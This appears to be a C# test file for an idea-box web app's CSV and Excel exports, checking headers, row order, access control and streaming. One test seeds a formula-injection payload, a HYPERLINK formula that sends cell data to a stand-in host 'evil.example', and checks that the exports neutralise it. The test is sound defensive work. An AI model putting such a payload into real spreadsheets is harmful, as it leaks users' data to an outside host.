using IdeaBox.Web.Features.Entries;
using MiniExcelLibs;

namespace IdeaBox.Tests.Features.Entries;

/// <summary>Downloads of the list parsed back and compared with what was written.</summary>
[Collection(Pages.Name)]
public sealed class ExportEntriesTests(AppFixture app) : AppTest(app)
{
    [Fact]
    public async Task The_filtered_list_round_trips_through_csv_in_the_lists_order()
    {
        var unit = await Given.AUnit("Service des achats");
        var (alpha, beta) = (await Given.ATheme("Achats"), await Given.ATheme("Bâtiments"));
        var popular = await Given.AnEntry(title: "Les bons de commande; trois signatures", unit: unit, themes: [beta, alpha]);
        var quiet = await Given.AnEntry(title: "Le \"quai\" de livraison est trop petit", unit: unit, themes: [alpha]);
        await Given.AnEntry(EntryKind.Idea);
        await Given.AnEntry(status: EntryStatus.Hidden);
        await Given.Votes(popular, await Given.AnAgent(), await Given.AnAgent());

        var client = await SignInAsync(await Given.ALeader());
        var rows = await Downloads.Csv(await client.Http.GetAsync("/Entries?handler=Export&format=Csv&kind=Difficulty&sort=MostVotes"));

        Assert.Equal(["Numéro", "Type", "Titre", "Statut", "Service concerné", "Thèmes", "Origine", "Votes", "Commentaires", "Déposée le", "Lien"], rows[0]);
        Assert.Equal(3, rows.Count);
        Assert.Equal([popular.ToString(), "Difficulté", "Les bons de commande; trois signatures", "Soumise", "Service des achats", "Achats | Bâtiments",
            "Agent", "2", "0", "2026-11-25 10:00"], rows[1][..10]);
        Assert.EndsWith($"/Entries/{popular}", rows[1][10]);
        Assert.Equal([quiet.ToString(), "Le \"quai\" de livraison est trop petit", "0"], [rows[2][0], rows[2][2], rows[2][7]]);
    }

    [Fact]
    public async Task The_excel_export_holds_the_same_rows()
    {
        await Given.AnEntry(EntryKind.Idea, title: "Un registre partagé");
        await Given.AnEntry(EntryKind.Idea, title: "Un annuaire des compétences");
        await Given.AnEntry(EntryKind.Difficulty);

        var response = await (await SignInAsync(await Given.ALeader())).Http.GetAsync("/Entries?handler=Export&format=Xlsx&kind=Idea&sort=Newest");
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType!.MediaType);
        using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        var rows = stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(2, rows.Count);
        Assert.All(rows, r => Assert.Equal("Idée", r["Type"]));
        Assert.Equal(["Un annuaire des compétences", "Un registre partagé"], rows.Select(r => (string)r["Titre"]).Order());
    }

    [Fact]
    public async Task Titles_that_look_like_formulas_are_written_as_text_in_csv_and_excel()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")";
        var unit = await Given.AUnit("@Service");
        var plain = await Given.AnEntry(title: "Une idée ordinaire", unit: unit);
        var formulas = new[] { formula, "+33 1 23", "-2 jours de congé", "@SUM(A1:A9)", "\tTabulation" };
        var ids = new List<int>();
        foreach (var title in formulas) ids.Add(await Given.AnEntry(title: title, unit: unit));
        await Given.Votes(plain, await Given.AnAgent());
        var client = await SignInAsync(await Given.ALeader());

        var csv = await Downloads.Csv(await client.Http.GetAsync("/Entries?handler=Export&format=Csv&sort=Newest"));
        var byId = csv.Skip(1).ToDictionary(r => r[0]);
        for (var i = 0; i < formulas.Length; i++) Assert.Equal("'" + formulas[i], byId[$"{ids[i]}"][2]);
        Assert.Equal("Une idée ordinaire", byId[$"{plain}"][2]);
        Assert.Equal("'@Service", byId[$"{plain}"][4]);
        Assert.Equal("1", byId[$"{plain}"][7]);

        var xlsx = await client.Http.GetAsync("/Entries?handler=Export&format=Xlsx&sort=Newest");
        var bytes = await xlsx.Content.ReadAsByteArrayAsync();
        using var stream = new MemoryStream(bytes);
        var rows = stream.Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToDictionary(r => Convert.ToInt32(r["Numéro"], System.Globalization.CultureInfo.InvariantCulture));
        for (var i = 0; i < formulas.Length; i++) Assert.Equal("'" + formulas[i], rows[ids[i]]["Titre"]);
        // No cell of the workbook is a formula.
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(bytes));
        var sheet = new StreamReader(zip.Entries.Single(e => e.FullName == "xl/worksheets/sheet1.xml").Open()).ReadToEnd();
        Assert.Contains("HYPERLINK", sheet);
        Assert.DoesNotContain("<x:f>", sheet);
        Assert.DoesNotContain("<f>", sheet);
    }

    [Fact]
    public async Task Agents_get_no_bulk_export_and_a_large_one_streams_every_row_in_the_list_s_order()
    {
        var unit = await Given.AUnit("Service des archives");
        var author = await Given.AnAgent(unit);
        const int count = 2 * ExportEntries.ChunkSize + 500;
        await WithDb(async db =>
        {
            var start = Clock.GetUtcNow().UtcDateTime.AddDays(-30);
            db.Entries.AddRange(Enumerable.Range(0, count).Select(i => Entry.Submit(author.Id, EntryKind.Difficulty, $"Dossier n° {i}", "Texte.", "<p>Texte.</p>",
                unit.Id, [], false, EntryOrigin.Agent, null, start.AddMinutes(i))));
            return await db.SaveChangesAsync();
        });

        var agent = await SignInAsync(await Given.AnAgent());
        Assert.Equal(HttpStatusCode.Forbidden, (await agent.Http.GetAsync("/Entries?handler=Export&format=Csv")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await agent.Http.GetAsync("/Plan?handler=Export&format=Xlsx")).StatusCode);
        Assert.Null((await agent.Get("/Entries")).Document.QuerySelector("a[href*=Export]"));
        Assert.Null((await agent.Get("/Plan")).Document.QuerySelector("a[href*=Export]"));

        var rows = await Downloads.Csv(await (await SignInAsync(await Given.ALeader())).Http.GetAsync("/Entries?handler=Export&format=Csv&sort=Newest"));
        Assert.Equal(count + 1, rows.Count);
        Assert.Equal(Enumerable.Range(0, count).Reverse().Select(i => $"Dossier n° {i}"), rows.Skip(1).Select(r => r[2]));
    }
}
